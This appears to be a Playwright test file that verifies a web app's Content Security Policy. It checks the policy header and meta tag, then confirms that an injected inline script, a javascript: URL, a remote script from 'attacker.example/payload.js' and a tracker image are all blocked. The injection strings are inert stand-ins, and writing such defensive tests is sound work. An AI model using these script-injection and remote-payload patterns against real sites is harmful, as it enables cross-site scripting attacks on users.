import { test, expect } from './fixtures/consoleErrors';
import { AppShell } from './pages/AppShell';

test.describe('the content security policy', () => {
  test.use({ allowedErrors: [/Content Security Policy/] });

  test('is sent with the page and set in it', async ({ page }) => {
    const response = await page.goto('./');
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
      'content',
      /default-src 'self'/,
    );
  });

  test('blocks an injected inline script, a javascript: URL and a remote script', async ({ page }) => {
    await new AppShell(page).open();
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const w = window as unknown as Record<string, unknown>;

      const inline = document.createElement('script');
      inline.textContent = 'window.__injected = "ran"';
      document.body.append(inline);

      const link = document.createElement('a');
      link.href = 'javascript:window.__viaLink = "ran"';
      document.body.append(link);
      link.click();

      const remote = document.createElement('script');
      remote.src = 'https://attacker.example/payload.js';
      document.body.append(remote);

      const image = document.createElement('img');
      image.src = 'https://tracker.example/pixel.gif';
      document.body.append(image);

      await new Promise((resolve) => setTimeout(resolve, 300));
      return { injected: w.__injected, viaLink: w.__viaLink, violations };
    });
    expect(result.injected).toBeUndefined();
    expect(result.viaLink).toBeUndefined();
    expect(result.violations.filter((d) => d.startsWith('script-src')).length).toBeGreaterThanOrEqual(3);
    expect(result.violations).toContain('img-src');
  });
});
